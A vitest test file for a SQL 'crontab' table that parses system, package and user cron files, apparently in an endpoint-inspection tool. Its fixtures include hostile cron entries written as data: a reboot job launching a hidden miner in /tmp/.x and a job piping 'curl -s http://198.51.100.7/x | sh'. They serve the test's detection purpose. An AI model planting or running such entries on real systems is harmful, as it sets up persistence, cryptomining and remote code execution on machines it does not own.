import { expect, test } from 'vitest';
import { queryFixture } from '../query.fixture';

test('reads system, package and user crontabs with the command as it stands', async () => {
  const { rows } = await queryFixture(
    {
      '/etc/crontab':
        '# comment\nSHELL=/bin/sh\nPATH = /bin a b c d e\n\n17 *\t* * *\troot  cd /  &&  run\r\n',
      '/etc/cron.d/php': '@reboot www-data /tmp/.x/miner >/dev/null 2>&1',
      '/var/spool/cron/crontabs/www-data': '*/5 * * * 1-5 curl -s http://198.51.100.7/x | sh\n',
      '/var/spool/cron/root': '0 0 * *\n@daily\n',
    },
    'SELECT * FROM crontab'
  );
  const blank = { event: '', minute: '', hour: '', day_of_month: '', month: '', day_of_week: '' };
  const every = { ...blank, hour: '*', day_of_month: '*', month: '*', day_of_week: '*' };
  expect(rows).toEqual([
    { ...every, minute: '17', command: 'root  cd /  &&  run', path: '/etc/crontab' },
    {
      ...{ ...blank, event: '@reboot', path: '/etc/cron.d/php' },
      command: 'www-data /tmp/.x/miner >/dev/null 2>&1',
    },
    {
      ...{ ...every, minute: '*/5', day_of_week: '1-5' },
      command: 'curl -s http://198.51.100.7/x | sh',
      path: '/var/spool/cron/crontabs/www-data',
    },
  ]);
});

test('gives no rows and no error where there is no cron', async () => {
  expect((await queryFixture({}, 'SELECT * FROM crontab')).rows).toEqual([]);
});
